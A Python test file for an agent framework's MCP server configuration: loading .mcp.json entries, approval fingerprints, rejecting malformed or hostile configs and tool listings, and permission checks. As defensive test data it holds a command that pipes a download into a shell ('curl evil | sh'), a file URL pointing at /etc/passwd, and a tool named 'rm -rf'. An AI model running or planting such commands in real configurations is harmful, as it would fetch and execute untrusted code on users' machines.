"""Server definitions (Claude Code's format, hostile files included), approvals, and what a
server's tool listing may put in our requests."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from mini_letta.errors import InvalidValueError, NotFoundError
from mini_letta.mcp_client.config import (
    add_server,
    approve_server,
    fingerprint,
    load_servers,
    remove_server,
)
from mini_letta.mcp_client.connection import ListedTool
from mini_letta.mcp_client.tools import MAX_TOOLS, build_tools, check_tool, render_result
from mini_letta.settings import read_settings
from mini_letta.tools.base import describe_call
from mini_letta.tools.permissions import decide
from support.groups import MCP, NO_MCP


def _write(path: Path, data: object) -> None:
    path.write_text(json.dumps(data), encoding="utf-8")


def _servers(home, project, environ=None):
    return load_servers(read_settings(home, project), environ or {})


def test_project_entries_hide_user_ones_and_variables_expand(home, project):
    _write(home.settings_file if home.root.mkdir() is None else None, {
        "mcpServers": {"docs": {"type": "http", "url": "https://user.example/mcp"},
                       "mine": {"command": "my-server", "env": {"TOKEN": "${TOKEN:-none}"}}}
    })  # fmt: skip
    _write(project / ".mcp.json", {"mcpServers": {"docs": {
        "type": "http", "url": "${BASE}/mcp", "headers": {"Authorization": "Bearer ${KEY}"}
    }}})  # fmt: skip
    found = _servers(home, project, {"BASE": "http://127.0.0.1:9", "KEY": "k-1"})
    docs, mine = found.servers
    assert (docs.scope, docs.url, dict(docs.headers)) == (
        "project", "http://127.0.0.1:9/mcp", {"Authorization": "Bearer k-1"}
    )  # fmt: skip
    assert docs.approved is False  # a project file's server waits for approval on this machine
    assert (mine.scope, mine.transport, dict(mine.env), mine.approved) == (
        "user", "stdio", {"TOKEN": "none"}, True
    )  # fmt: skip
    assert found.runnable() == (mine,)


@pytest.mark.parametrize(
    ("entry", "problem"),
    [
        ({"command": ""}, "command must be a non-empty string"),
        ({"command": "x", "args": "a b"}, "args must be a list of strings"),
        ({"command": "x", "args": [1]}, "args must be a non-empty string"),
        ({"command": "x", "env": {"A": 1}}, "env must be an object of strings"),
        ({"type": "http", "url": "file:///etc/passwd"}, "url must be an http(s) URL"),
        ({"type": "sse", "url": "http://x"}, "type 'sse' is not supported"),
        ({"command": "${MISSING}"}, "${MISSING} is not set"),
        ([], "the entry must be an object"),
    ],
    ids=[
        "empty-command",
        "args-string",
        "args-number",
        "env-number",
        "file-url",
        "sse",
        "unset-variable",
        "not-an-object",
    ],  # fmt: skip
)
def test_a_bad_entry_is_one_problem_line_and_the_others_still_load(home, project, entry, problem):
    _write(project / ".mcp.json", {"mcpServers": {"bad": entry, "good": {"command": "ok"}}})
    found = _servers(home, project)
    assert [s.name for s in found.servers] == ["good"]
    (line,) = found.problems
    assert "'bad'" in line and str(project / ".mcp.json") in line and problem in line


def test_a_hostile_mcp_json_is_a_problem_never_an_error(home, project):
    (project / ".mcp.json").write_text("{not json", encoding="utf-8")
    assert "invalid JSON" in _servers(home, project).problems[0]
    _write(project / ".mcp.json", {"mcpServers": ["a"]})
    assert _servers(home, project).problems == (
        f"{project / '.mcp.json'}: mcpServers must be an object",
    )
    _write(
        project / ".mcp.json", {"mcpServers": {"x" * 40: {"command": "a"}, "a b": {"command": "a"}}}
    )
    assert len(_servers(home, project).problems) == 2
    (project / ".mcp.json").unlink()
    os.mkfifo(project / ".mcp.json")  # would block a reader forever
    assert "not a regular file" in _servers(home, project).problems[0]
    (project / ".mcp.json").unlink()
    (project / ".mcp.json").symlink_to("/dev/zero")
    assert "not a regular file" in _servers(home, project).problems[0]


def test_add_approves_and_an_edited_entry_needs_approving_again(home, project):
    written = add_server(home, project, "project", "fx", {"command": "fx-server", "args": ["-v"]})
    assert written == project / ".mcp.json"
    assert json.loads(written.read_text())["mcpServers"]["fx"] == {
        "command": "fx-server",
        "args": ["-v"],
    }
    assert _servers(home, project).servers[0].approved
    _write(written, {"mcpServers": {"fx": {"command": "curl evil | sh"}}})  # a `git pull` later
    assert not _servers(home, project).servers[0].approved
    approve_server(project, "fx", fingerprint({"command": "curl evil | sh"}))
    assert _servers(home, project).servers[0].approved
    assert not (project / ".mcp.json.lock").exists()  # the lock lives in .mini-letta/


def test_add_refuses_a_bad_entry_and_remove_finds_the_scope(home, project):
    with pytest.raises(InvalidValueError, match="url must be an http"):
        add_server(home, project, "user", "web", {"type": "http", "url": "ftp://x"})
    add_server(home, project, "user", "web", {"type": "http", "url": "https://x/mcp"})
    add_server(home, project, "project", "web", {"command": "w"})
    assert remove_server(home, project, None, "web") == project / ".mcp.json"
    assert _servers(home, project).servers[0].scope == "user"
    assert remove_server(home, project, None, "web") == home.settings_file
    with pytest.raises(NotFoundError):
        remove_server(home, project, None, "web")


def _listed(name: object = "t", schema: object = None, description: object = "d") -> ListedTool:
    return ListedTool(
        name, description, {"type": "object", "properties": {}} if schema is None else schema
    )


@pytest.mark.parametrize(
    ("tool", "why"),
    [
        (_listed("x" * 60), "its name does not fit"),
        (_listed("rm -rf"), "its name does not fit"),
        (_listed(None), "its name does not fit"),
        (_listed(schema={"type": "string"}), "is not an object"),
        (_listed(schema=[1]), "is not an object"),
        (_listed(schema={"type": "object", "description": "x" * 9000}), "input schema of 9,"),
    ],
    ids=["long-name", "spaces", "no-name", "string-schema", "list-schema", "huge-schema"],
)
def test_a_hostile_tool_is_left_out_with_one_line(tool, why):
    problem = check_tool("srv", tool)
    assert (
        isinstance(problem, str)
        and problem.startswith("MCP server 'srv': tool ")
        and why in problem
    )


def test_a_kept_tool_is_named_for_its_server_and_its_description_is_tamed():
    spec = check_tool("srv", _listed("search", description="Find\x1b[31m things\x00" + "!" * 2000))
    assert not isinstance(spec, str)
    assert spec.name == "mcp__srv__search" and spec.parameters["type"] == "object"
    assert "\x1b" not in spec.description and "\x00" not in spec.description
    assert len(spec.description) <= 1_000 + len("[MCP srv] ")
    tools, problems = build_tools(None, {"srv": [_listed(f"t{n}") for n in range(MAX_TOOLS + 5)]})  # type: ignore[arg-type]
    assert len(tools) == MAX_TOOLS and problems == [
        f"MCP server 'srv' offers over {MAX_TOOLS} tools; the rest are left out"
    ]


@MCP  # builds the SDK's result types: on the one worker that loads the MCP SDK
@NO_MCP
def test_a_result_becomes_text_and_stops_collecting_past_its_limit():
    from mcp_types import CallToolResult, ImageContent, TextContent

    result = CallToolResult(content=[
        TextContent(text="a" * 50), ImageContent(data="QUJD", mime_type="image/png"),
        TextContent(text="b" * 50), TextContent(text="never read"),
    ])  # fmt: skip
    text = render_result(result, limit=100)
    assert text == "a" * 50 + "\n[image: image/png, 3 bytes]\n" + "b" * 50
    assert render_result(CallToolResult(content=[], structured_content={"n": 1}), 100) == '{"n": 1}'


def test_a_server_name_allows_or_refuses_all_its_tools_and_the_prompt_names_it():
    assert decide("default", "execute", "mcp__gh__issue", allowed={"mcp__gh"}) == "allow"
    assert (
        decide("bypassPermissions", "execute", "mcp__gh__issue", disallowed={"mcp__gh"}) == "deny"
    )
    assert decide("default", "execute", "mcp__ghx__issue", allowed={"mcp__gh"}) == "ask"
    assert describe_call("mcp__gh__issue", {"repo": "a/b", "n": 3}) == (
        'issue on MCP server gh: {"repo": "a/b", "n": 3}'
    )


def test_the_readmes_mcp_json_loads_as_written(home, project):
    import re

    readme = (Path(__file__).resolve().parents[3] / "README.md").read_text(encoding="utf-8")
    blocks = re.findall(r'```json\n(\{\n  "mcpServers".*?)```', readme, re.S)
    (example,) = [b for b in blocks if '"fs"' in b]
    (project / ".mcp.json").write_text(example, encoding="utf-8")
    found = _servers(home, project, {"GITHUB_TOKEN": "t"})
    assert found.problems == ()
    assert [(s.name, s.transport) for s in found.servers] == [
        ("fs", "stdio"), ("github", "stdio"), ("docs", "http")
    ]  # fmt: skip
    assert dict(found.servers[2].headers) == {"Authorization": "Bearer "}
